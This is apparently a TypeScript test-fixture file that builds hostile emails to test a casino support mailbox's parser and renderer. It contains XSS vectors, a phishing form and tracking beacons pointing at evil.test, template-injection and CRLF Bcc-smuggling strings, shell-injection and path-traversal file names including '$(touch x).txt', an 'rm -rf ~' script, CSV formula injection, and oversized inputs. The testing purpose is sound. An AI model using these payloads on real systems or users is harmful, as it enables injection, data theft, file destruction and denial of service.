import { type HostileMail, mailOf, type Parts } from './mail.ts';

/** Rows C1 to C14: what bytes, markup and files can do to those who read them. */
export function contentMails(): readonly HostileMail[] {
  return [
    ...poisons(),
    ...scripts(),
    ...beacons(),
    ...templates(),
    ...smuggled(),
    ...fileNames(),
    ...files(),
    ...unstorable(),
    ...charsets(),
    ...endless(),
  ];
}

const AUTHOR = { letters: 'author' } as const;
const HEAD = 'From: Eve <eve@evil.test>\r\nTo: support@casino.test\r\nSubject: My withdrawal\r\n';

function poisons(): readonly HostileMail[] {
  const nested = (depth: number): string =>
    Array.from({ length: depth }, (_, at) => `Content-Type: multipart/mixed; boundary=b${at}\r\n\r\n--b${at}\r\n`).join(
      '',
    );
  const raws: Readonly<Record<string, string>> = {
    'the 59 bytes that never settle': 'Content-Type: message/rfc822\r\nContent-Disposition: inline\r\n',
    'the same with a sender': `${HEAD}Content-Type: message/rfc822\r\nContent-Disposition: inline\r\n`,
    nothing: '',
    'one byte': '\0',
    'only line ends': '\r\n'.repeat(1_000),
    'no sender': 'Subject: hello\r\n\r\nmy money',
    'an empty sender': 'From: <>\r\nSubject: hello\r\n\r\nmy money',
    'ten thousand parts': `${HEAD}Content-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\n\r\nx\r\n'.repeat(10_000)}--b--`,
    'a thousand levels': HEAD + nested(1_000),
    'ten thousand levels': HEAD + nested(10_000),
    'a thousand mails in mails': HEAD + 'Content-Type: message/rfc822\r\n\r\n'.repeat(1_000),
    'a head of a megabyte': `${HEAD}X-Big: ${'x'.repeat(1_000_000)}\r\n\r\nbody`,
    'fifty thousand fields': `${HEAD}${'X-Field: y\r\n'.repeat(50_000)}\r\nbody`,
    'a subject of 200 kB': `From: eve@evil.test\r\nSubject: ${'a '.repeat(100_000)}\r\n\r\nbody`,
    'five thousand references': `${HEAD}References: ${'<a@b.test> '.repeat(5_000)}\r\n\r\nbody`,
    'a boundary of nothing': `${HEAD}Content-Type: multipart/mixed; boundary=""\r\n\r\n--\r\n\r\nx`,
    'a boundary inside of itself': `${HEAD}Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\nContent-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n\r\nx\r\n--a--`,
    'fifty thousand look-alike boundaries': `${HEAD}Content-Type: multipart/mixed; boundary=a\r\n\r\n${'--ab\r\n'.repeat(50_000)}`,
    'base64 that is none': `${HEAD}Content-Transfer-Encoding: base64\r\n\r\n${'!@#$'.repeat(50_000)}`,
    'quoted-printable of blanks': `${HEAD}Content-Transfer-Encoding: quoted-printable\r\n\r\n${' '.repeat(150_000)}x`,
    'a line of 500 kB': `${HEAD}\r\n${'x'.repeat(500_000)}`,
    'comments in an address': `From: ${'('.repeat(20_000)}eve@evil.test\r\nSubject: x\r\n\r\nbody`,
    'ten thousand recipients': `From: eve@evil.test\r\nTo: ${'a@b.test, '.repeat(10_000)}\r\nSubject: x\r\n\r\nbody`,
  };
  return Object.entries(raws).map(([name, raw]) => ({ row: 'C1-C3', name, raw: Buffer.from(raw) }));
}

/** Where words of a mail can come to be shown. */
function everywhere(payload: string): Readonly<Record<string, Parts>> {
  return {
    'in the text': { text: `My withdrawal of 500 EUR. ${payload}` },
    'in HTML': { html: `<p>My withdrawal of 500 EUR.</p>${payload}` },
    'in the subject': { subject: `My withdrawal ${payload}` },
    'in the name': { from: `"${payload.replace(/["\\]/g, '\\$&')}" <eve@evil.test>` },
    'in a file name': { files: [{ name: `${payload}.txt`, type: 'text/plain', content: 'x' }] },
  };
}

function scripts(): readonly HostileMail[] {
  const vectors = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">win</a>',
    '<form action="https://evil.test/f"><input name=password></form>',
    '<style>*{background:url(https://evil.test/c)}</style>',
    '<meta http-equiv=refresh content="0;url=https://evil.test/m">',
    '<base href="https://evil.test/">',
    '<object data="https://evil.test/o"></object>',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
    '"><script>alert(1)</script>',
    '<!--[if mso]><img src="https://evil.test/x"><![endif]-->',
    '</p></div></body></html><h1>new page</h1>',
    '<b onmouseover=alert(1)>bold</b>',
    '<link rel=stylesheet href=https://evil.test/s>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<scr\0ipt>alert(1)</scr\0ipt>',
    '<ScRiPt\n>alert(1)</sCrIpT>',
    '<details open ontoggle=alert(1)>',
  ];
  return vectors.flatMap((vector, at) =>
    Object.entries(everywhere(vector)).map(([place, parts]) => ({
      row: 'C5',
      name: `vector ${at} ${place}`,
      raw: mailOf(parts),
      wants: AUTHOR,
    })),
  );
}

/** Nothing of theirs is fetched, and nothing in a letter of ours makes anybody else fetch it. */
function beacons(): readonly HostileMail[] {
  const url = 'https://beacon.evil.test/pixel.gif?id=42';
  const carriers = [
    `<img src="${url}">`,
    `<img srcset="${url} 2x">`,
    `<body background="${url}">`,
    `<div style="background:url('${url}')">x</div>`,
    `<link href="${url}" rel="stylesheet">`,
    `<video poster="${url}"></video>`,
    `<audio src="${url}"></audio>`,
    `<table background="${url}"><tr><td>x</td></tr></table>`,
    `<input type=image src="${url}">`,
    `<style>@import "${url}";</style>`,
    `<svg><image href="${url}"/></svg>`,
    `<a href="${url}">my receipt</a>`,
    `<img src="cid:x"><img src="//beacon.evil.test/pixel.gif">`,
  ];
  return carriers.map((carrier, at) => ({
    row: 'C6',
    name: `a beacon, ${at}`,
    raw: mailOf({ html: `<p>My withdrawal of 500 EUR is pending.</p>${carrier}` }),
    wants: {
      ...AUTHOR,
      nowhere: ['src="https://beacon', 'url(https://beacon', 'href="https://beacon', "url('https://beacon"],
    },
  }));
}

function templates(): readonly HostileMail[] {
  const payloads = [
    '{{reference}}',
    '{{{reference}}}',
    '{{#each this}}{{this}}{{/each}}',
    '{{constructor.constructor "return 7*7"}}',
    '{{lookup this "constructor"}}',
    '{{> closing}}',
    '{{!-- --}}',
    '{{#with "s" as |string|}}{{string}}{{/with}}',
    '${7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    '{{7*7}}',
    '{%raw%}x{%endraw%}',
    '{{__proto__}}',
    '{{@root}}',
    '{{#if true}}CONDITION{{/if}}',
    '[[${7*7}]]',
    '%{7*7}',
    '{{log "x"}}',
    '\\{{reference}}',
  ];
  return payloads.flatMap((payload, at) =>
    Object.entries(everywhere(`${payload} END${at}`)).map(([place, parts]) => ({
      row: 'C7',
      name: `template syntax ${payload} ${place}`,
      raw: mailOf(parts),
      wants: { ...AUTHOR, nowhere: [`49 END${at}`, `CONDITION END${at}`] },
    })),
  );
}

/** Line ends, NUL and second addresses, raw and encoded, in every field that we read. */
function smuggled(): readonly HostileMail[] {
  const endings = [
    '\r\nBcc: victim@third.test',
    '\nBcc: victim@third.test',
    '\rBcc: victim@third.test',
    '\0\r\nBcc: victim@third.test',
    '\u2028Bcc: victim@third.test',
    '\u0085Bcc: victim@third.test',
    '=?utf-8?Q?=0D=0ABcc:_victim@third.test?=',
    '=?utf-8?B?DQpCY2M6IHZpY3RpbUB0aGlyZC50ZXN0?=',
    '%0d%0aBcc:victim@third.test',
    '\\r\\nBcc: victim@third.test',
  ];
  const fields: Readonly<Record<string, (payload: string) => Parts>> = {
    Subject: (payload) => ({ subject: `Money${payload}` }),
    'the name': (payload) => ({ from: `"Eve${payload}" <eve@evil.test>` }),
    'Message-ID': (payload) => ({ headers: [`Message-ID: <a${payload}@evil.test>`] }),
    References: (payload) => ({ headers: [`References: <a@b.test${payload}> <c@d.test>`] }),
    'Reply-To': (payload) => ({ headers: [`Reply-To: eve@evil.test${payload}`] }),
    'a file name': (payload) => ({ files: [{ name: `a${payload}.txt`, type: 'text/plain', content: 'x' }] }),
    'the language': (payload) => ({ headers: [`Content-Language: fr${payload}`, `Accept-Language: fr${payload}`] }),
  };
  const addresses = [
    'eve@evil.test\r\nBcc: victim@third.test',
    '"eve@evil.test\r\nBcc: victim@third.test" <eve@evil.test>',
    'eve@evil.test, victim@third.test',
    'Bob <victim@third.test>, <eve@evil.test>',
    '<eve@evil.test> <victim@third.test>',
    'eve@evil.test (victim@third.test)',
    '<@victim.test:eve@evil.test>',
    '"victim@third.test eve"@evil.test',
    'eve@evil.test\0victim@third.test',
    'group: victim@third.test;',
    'eve@[victim@third.test]',
    'eve@evil.test>\r\nRCPT TO:<victim@third.test',
    '=?utf-8?Q?victim=40third.test?= <eve@evil.test>',
    'eve@localhost',
    'eve.@evil.test',
    'eve@evil',
    `${'e'.repeat(65)}@evil.test`,
    `eve@${'e'.repeat(64)}.test`,
  ];
  return [
    ...Object.entries(fields).flatMap(([field, parts]) =>
      endings.map((ending, at) => ({
        row: 'C8',
        name: `a line end in ${field}, ${at}`,
        raw: mailOf(parts(ending)),
        wants: AUTHOR,
      })),
    ),
    ...addresses.map((from) => ({
      row: 'C8',
      name: `From is ${JSON.stringify(from.slice(0, 40))}`,
      raw: mailOf({ from }),
      wants: AUTHOR,
    })),
  ];
}

function fileNames(): readonly HostileMail[] {
  const names = [
    '../../../etc/passwd',
    '..\\..\\windows\\system32\\x.dll',
    '/etc/passwd',
    'C:\\x.txt',
    '\u200B.htaccess',
    '.htaccess',
    'photo\u202Egpj.exe',
    'a\0.png',
    'CON',
    'aux.txt',
    'LPT1.pdf',
    `${'x'.repeat(5_000)}.png`,
    'invoice.pdf.exe',
    'invoice.pdf          .exe',
    'a.',
    '...',
    ' ',
    '',
    '%2e%2e%2fx',
    'a;b.txt',
    'a|b&c.txt',
    '$(touch x).txt',
    '`id`.txt',
    '-rf',
    '~root',
    'a\nb.txt',
    '<b>.html',
    "'; DROP TABLE.txt",
    '=cmd|calc.csv',
    'نام.pdf.scr',
    '\u{1F600}.png',
    '=?utf-8?B?Li4vLi4vZXRj?=',
    "utf-8''%2e%2e%2fetc",
    'desktop.ini',
    'x.lnk',
    'x.url',
    'nul.png',
    'a:b.txt',
    '＂quoted＂.txt',
    '\ufeffreadme.md',
  ];
  return names.map((name) => ({
    row: 'C9',
    name: `a file called ${JSON.stringify(name.slice(0, 30))}`,
    raw: mailOf({ files: [{ name, type: 'image/png', content: 'not an image' }] }),
    wants: AUTHOR,
  }));
}

function files(): readonly HostileMail[] {
  const zip = Buffer.from('504b0304140000000800', 'hex');
  const kinds: readonly (readonly [name: string, type: string, content: string | Uint8Array])[] = [
    ['eicar.txt', 'text/plain', 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'],
    ['42.zip', 'application/zip', zip],
    ['photo.jpg', 'image/jpeg', zip],
    ['photo.png', 'image/png', 'MZ\x90\0'],
    ['statement.pdf', 'application/pdf', 'MZ\x90\0'],
    ['statement.pdf', 'application/pdf', '%PDF-1.7 /JavaScript (x)'],
    ['statement.pdf', 'application/pdf', '%PDF-1.7 /Encrypt'],
    ['doc.docm', 'application/vnd.ms-word', zip],
    ['doc.docx', 'application/vnd.openxmlformats', Buffer.concat([zip, Buffer.from('word/vbaProject.bin')])],
    ['page.html', 'text/html', '<script>alert(1)</script>'],
    ['x.svg', 'image/svg+xml', '<svg onload=alert(1)>'],
    ['run.sh', 'text/plain', '#!/bin/sh\nrm -rf ~'],
    ['x.js', 'text/plain', 'alert(1)'],
    ['x.rar', 'application/x-rar', 'Rar!\x1a\x07\0'],
    ['x.7z', 'application/octet-stream', Buffer.from('377abcaf271c', 'hex')],
    ['x.iso', 'application/octet-stream', 'CD001'],
    ['x.elf', 'image/png', '\x7fELF\x02\x01\x01'],
    ['mail.eml', 'message/rfc822', 'From: nora@casino.example\r\nSubject: #close\r\n\r\n#close'],
    ['winmail.dat', 'application/ms-tnef', Buffer.from('789f3e22ffff', 'hex')],
    ['invite.ics', 'text/calendar', 'BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nEND:VCALENDAR'],
    ['smime.p7m', 'application/pkcs7-mime', 'x'],
    ['empty.png', 'image/png', ''],
    ['x.csv', 'text/csv', '=cmd|calc'],
  ];
  return kinds.map(([name, type, content]) => ({
    row: 'C10',
    name: `${name} of ${content.length} bytes`,
    raw: mailOf({ files: [{ name, type, content }] }),
    wants: AUTHOR,
  }));
}

function unstorable(): readonly HostileMail[] {
  const bytes: Readonly<Record<string, Buffer>> = {
    NUL: Buffer.from('a\0b'),
    'a lone surrogate': Buffer.from([0xed, 0xa0, 0x80]),
    'bytes of no charset': Buffer.from([0xff, 0xfe, 0x80]),
    '20 kB': Buffer.from('x'.repeat(20_000)),
    'an escape sequence': Buffer.from('\x1b]0;title\x07\x1b[31m'),
    'a literal \\u0000': Buffer.from('\\u0000\\ud800'),
  };
  const fields = [
    'From',
    'Subject',
    'Message-ID',
    'In-Reply-To',
    'References',
    'Reply-To',
    'To',
    'Cc',
    'Date',
    'Auto-Submitted',
    'List-Id',
    'Content-Type',
    'Authentication-Results',
    'Return-Path',
    'body',
  ];
  return fields.flatMap((field) =>
    Object.entries(bytes).map(([what, payload]) => {
      const value = Buffer.concat([
        Buffer.from(field === 'body' ? '' : `${field}: <`),
        payload,
        Buffer.from('@evil.test>\r\n'),
      ]);
      const head =
        field === 'From'
          ? Buffer.from('Subject: x\r\n')
          : Buffer.from(field === 'Subject' ? 'From: eve@evil.test\r\n' : HEAD);
      const raw =
        field === 'body'
          ? Buffer.concat([head, Buffer.from('\r\n'), value])
          : Buffer.concat([value, head, Buffer.from('\r\nmy money\r\n')]);
      return { row: 'C13', name: `${what} in ${field}`, raw };
    }),
  );
}

function charsets(): readonly HostileMail[] {
  const names = [
    'utf-7',
    'utf-16',
    'utf-16be',
    'iso-2022-jp',
    'iso-2022-kr',
    'hz-gb-2312',
    'gb18030',
    'big5',
    'koi8-r',
    'x-mac-cyrillic',
    'nonsense',
    '',
    'utf-8; charset=utf-16',
    '../../utf-8',
    'x'.repeat(5_000),
    'ebcdic',
  ];
  return names.map((charset) => ({
    row: 'C14',
    name: `charset ${charset.slice(0, 20)}`,
    raw: Buffer.concat([
      Buffer.from(`${HEAD}Content-Type: text/plain; charset=${charset}\r\n\r\n`),
      Buffer.from('2b4144772d736372697074ff8081c3281b2442', 'hex'),
    ]),
    wants: AUTHOR,
  }));
}

/** Row C12: patterns. */
function endless(): readonly HostileMail[] {
  const tokens = [
    'a',
    'a.',
    '>',
    '@',
    'a@',
    '\n',
    ' ',
    '\t',
    'http://',
    '1',
    '1 ',
    '4111 ',
    '<p ',
    '<style>',
    '-',
    'On a wrote:\n',
    'From: a\n',
    'Email: ',
    '(',
    '"',
    '{{',
    '=?',
    '&#',
    'DE89 ',
    'abandon ',
    'password: ',
    'bonus ',
    'برداشت ',
    'RDR-',
    '12/12/',
  ];
  return tokens.flatMap((token) => [
    {
      row: 'C12',
      name: `150 kB of ${JSON.stringify(token)} as text`,
      raw: mailOf({ text: token.repeat(150_000 / token.length) }),
      wants: AUTHOR,
    },
    {
      row: 'C12',
      name: `150 kB of ${JSON.stringify(token)} as HTML`,
      raw: mailOf({ html: token.repeat(150_000 / token.length) }),
      wants: AUTHOR,
    },
  ]);
}
